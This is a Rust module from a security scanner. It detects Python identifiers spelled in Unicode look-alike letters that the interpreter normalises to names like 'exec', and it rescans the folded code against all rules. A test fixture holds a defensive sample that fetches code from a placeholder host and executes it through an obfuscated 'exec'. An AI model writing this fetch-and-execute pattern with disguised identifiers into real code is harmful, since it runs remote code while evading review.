//! Python identifiers written in look-alike letters: mathematical alphanumerics (`𝘦𝘹𝘦𝘤`, `𝐫𝐞𝐪𝐮𝐞𝐬𝐭𝐬`),
//! full-width forms (`ｅｘｅｃ`) and the letterlike symbols that fill their gaps (`ℎ`). Python reads
//! identifiers after NFKC normalisation, so to the interpreter these are plain `exec` and `requests`; to a
//! text rule they are other words. Only a wish to hide the name explains writing code that way.
//!
//! The detector reports such code; the rescan folds the file to plain letters (one character for one, so
//! every line and column stays where it was) and scans it again with the whole rule set, reporting what
//! only the folded text shows at the original lines. The fold covers the ranges NFKC maps to ASCII letters
//! and digits, which is all an identifier needs; it is bounded by [`MAX_FOLDED_BYTES`].

use super::deobfuscate::MAX_DEPTH;
use super::FileDetector;
use crate::compile::{CompiledRule, Matcher, RuleSet};
use crate::matchers::{Hit, HitDetail};
use crate::scan::{snippet, FileScan, SourceFile};
use crate::segment::Segment;
use skill_scan_model::{Context, Language, LineIndex};
use std::collections::HashSet;

/// The native name of the rule.
pub(crate) const NFKC_DETECTOR: &str = "nfkc-lookalike-identifiers";
/// Larger files are not folded.
const MAX_FOLDED_BYTES: usize = 1024 * 1024;
/// Hits per file (one per line).
const MAX_LINES_REPORTED: usize = 64;

pub(crate) static LOOKALIKE_IDENTIFIERS: FileDetector = FileDetector {
    // Every file: a look-alike has no common substring, and a non-Python segment returns at once.
    literals: &[],
    run: report,
};

/// The ASCII letter or digit NFKC turns `c` into, when it is a look-alike of one.
pub(crate) fn fold(c: char) -> Option<char> {
    let cp = c as u32;
    let letter = |i: u32| {
        let i = i % 52;
        char::from_u32(if i < 26 {
            'A' as u32 + i
        } else {
            'a' as u32 + i - 26
        })
    };
    match cp {
        // Thirteen 52-letter alphabets (bold, italic, script, fraktur, double-struck, sans, monospace…).
        0x1D400..=0x1D6A3 => letter(cp - 0x1D400),
        0x1D6A4 => Some('i'),
        0x1D6A5 => Some('j'),
        // Five sets of digits.
        0x1D7CE..=0x1D7FF => char::from_u32('0' as u32 + (cp - 0x1D7CE) % 10),
        0xFF10..=0xFF19 | 0xFF21..=0xFF3A | 0xFF41..=0xFF5A => char::from_u32(cp - 0xFEE0),
        0xFF3F => Some('_'),
        // Letterlike symbols standing in the holes of the alphabets above.
        0x210E => Some('h'),
        0x212F => Some('e'),
        0x210A => Some('g'),
        0x2134 => Some('o'),
        0x2113 => Some('l'),
        0x2111 | 0x2110 => Some('I'),
        0x211B..=0x211D => Some('R'),
        0x2102 => Some('C'),
        0x210B..=0x210D => Some('H'),
        0x2115 => Some('N'),
        0x2119 => Some('P'),
        0x211A => Some('Q'),
        0x2124 | 0x2128 => Some('Z'),
        0x212C => Some('B'),
        0x2130 => Some('E'),
        0x2131 => Some('F'),
        0x2133 => Some('M'),
        _ => None,
    }
}

/// `text` with every look-alike folded, or `None` when it has none worth folding.
fn folded(text: &str) -> Option<String> {
    if text.len() > MAX_FOLDED_BYTES || text.is_ascii() {
        return None;
    }
    let mut changed = false;
    let out: String = text
        .chars()
        .map(|c| match fold(c) {
            Some(plain) => {
                changed = true;
                plain
            }
            None => c,
        })
        .collect();
    changed.then_some(out)
}

fn report(segment: &Segment, text: &str, keep: &mut dyn FnMut(Hit) -> bool) {
    if segment.language != Language::Python {
        return;
    }
    let body = segment.text(text);
    let mut line_start = 0usize;
    let mut reported = 0usize;
    for line in body.split_inclusive('\n') {
        let offset = line_start;
        line_start += line.len();
        if line.is_ascii() {
            continue;
        }
        // The first run of look-alikes on the line that the interpreter reads as a name.
        // A name starts with a letter: a look-alike digit, or one just after a quote, is text.
        let Some((at, first)) = line.char_indices().find(|(i, c)| {
            fold(*c).is_some_and(|p| p.is_ascii_alphabetic() || p == '_')
                && !line[..*i].ends_with(['"', '\''])
        }) else {
            continue;
        };
        let start = segment.start + offset + at;
        if segment.context_at(text, start) != Context::Code {
            continue;
        }
        let written: String = line[at..]
            .chars()
            .take_while(|c| fold(*c).is_some() || c.is_ascii_alphanumeric() || *c == '_')
            .collect();
        let plain: String = written.chars().map(|c| fold(c).unwrap_or(c)).collect();
        let hit = Hit {
            start,
            end: start + written.len().max(first.len_utf8()),
            detail: Some(Box::new(HitDetail {
                message: format!(
                    "`{written}` is written in look-alike letters; Python reads it as `{plain}`"
                ),
                related: Vec::new(),
            })),
        };
        reported += 1;
        if !keep(hit) || reported >= MAX_LINES_REPORTED {
            return;
        }
    }
}

pub(crate) fn is_nfkc_rule(rule: &CompiledRule) -> bool {
    matches!(&rule.matcher, Matcher::Native { name, .. } if name == NFKC_DETECTOR)
}

/// A rescan the detector set runs after a file's rules (see `crate::passes`), as a method of the rule set
/// it scans with.
pub(crate) trait RescanFolded {
    fn rescan_folded(
        &self,
        file: &SourceFile,
        keep: &dyn Fn(&CompiledRule) -> bool,
        depth: usize,
        out: &mut FileScan,
    );
}

impl RescanFolded for RuleSet {
    /// Scans the Python file `file` again as the interpreter reads it (look-alike letters folded) and adds
    /// what only that reading shows, at the same lines and columns.
    fn rescan_folded(
        &self,
        file: &SourceFile,
        keep: &dyn Fn(&CompiledRule) -> bool,
        depth: usize,
        out: &mut FileScan,
    ) {
        if file.language != Language::Python || depth >= MAX_DEPTH {
            return;
        }
        let Some(plain) = folded(file.text) else {
            return;
        };
        let inner = SourceFile {
            text: &plain,
            ..*file
        };
        let scan = self.scan_at_depth(&inner, keep, depth + 1);
        let known: HashSet<(String, usize)> = out
            .findings
            .iter()
            .map(|f| (f.rule_id.clone(), f.line))
            .collect();
        let lines = LineIndex::new(file.text);
        for mut finding in scan.findings {
            if known.contains(&(finding.rule_id.clone(), finding.line))
                || is_nfkc_rule_id(self, &finding.rule_id)
            {
                continue;
            }
            // One folded character per original one: positions carry over unchanged.
            let start = lines.offset_of(file.text, finding.line, finding.column);
            let end = lines.offset_of(file.text, finding.end_line, finding.end_column);
            let (shown, highlight) = snippet(file.text, &lines, start, end.max(start));
            finding.message = format!(
                "read as Python reads look-alike letters: {} ({})",
                finding.message, finding.rule_id
            );
            finding.snippet = shown;
            finding.snippet_highlight = highlight;
            out.findings.push(finding);
        }
        out.notes.extend(scan.notes);
    }
}

fn is_nfkc_rule_id(rules: &RuleSet, id: &str) -> bool {
    rules.get(id).is_some_and(is_nfkc_rule)
}

#[cfg(test)]
mod tests {
    use super::*;
    use skill_scan_model::{ArtifactScope, FileKind, FileRole, RecommendedAction};

    #[test]
    fn look_alikes_fold_to_plain_letters() {
        assert_eq!(folded("𝘦𝘹𝘦𝘤(x)").as_deref(), Some("exec(x)"));
        assert_eq!(folded("ｅｘｅｃ").as_deref(), Some("exec"));
        assert_eq!(folded("𝐫𝐞𝐪𝐮𝐞𝐬𝐭𝐬.get").as_deref(), Some("requests.get"));
        assert_eq!(folded("ℎ𝟏"), Some("h1".to_string()));
        assert_eq!(folded("café = 1"), None);
        assert_eq!(folded("plain ascii"), None);
    }

    fn scan(text: &str) -> FileScan {
        let rules = RuleSet::embedded(&crate::DETECTORS).unwrap();
        rules.scan(&SourceFile {
            rel_path: "pkg/__init__.py",
            text,
            kind: FileKind::Python,
            scope: ArtifactScope::SupportingArtifact,
            language: Language::Python,
            role: FileRole::Source,
            import_entry: false,
        })
    }

    #[test]
    fn folded_code_meets_every_rule_at_its_own_line() {
        let text = "import os\nimport urllib.request\ncode = urllib.request.urlopen('https://cdn.example.invalid/p').read()\n𝘦𝘹𝘦𝘤(code)\n";
        let result = scan(text);
        assert!(
            result
                .findings
                .iter()
                .any(|f| f.message.starts_with("read as Python reads")
                    && f.line == 4
                    && f.action == RecommendedAction::Block),
            "{:#?}",
            result.findings
        );
        assert!(result
            .findings
            .iter()
            .any(|f| f.message.contains("Python reads it as `exec`")));
    }

    #[test]
    fn look_alikes_in_strings_and_comments_are_quiet() {
        let text = "# 𝐁𝐨𝐥𝐝 heading in a comment\nTITLE = '𝐁𝐨𝐥𝐝 𝐓𝐢𝐭𝐥𝐞'\nprint(TITLE)\n@pytest.mark.parametrize('v', ['-1', '５', 'ｘ'])\ndef test_v(v): pass\n";
        let result = scan(text);
        assert!(
            result
                .findings
                .iter()
                .all(|f| !f.message.contains("look-alike")),
            "{:#?}",
            result.findings
        );
    }
}
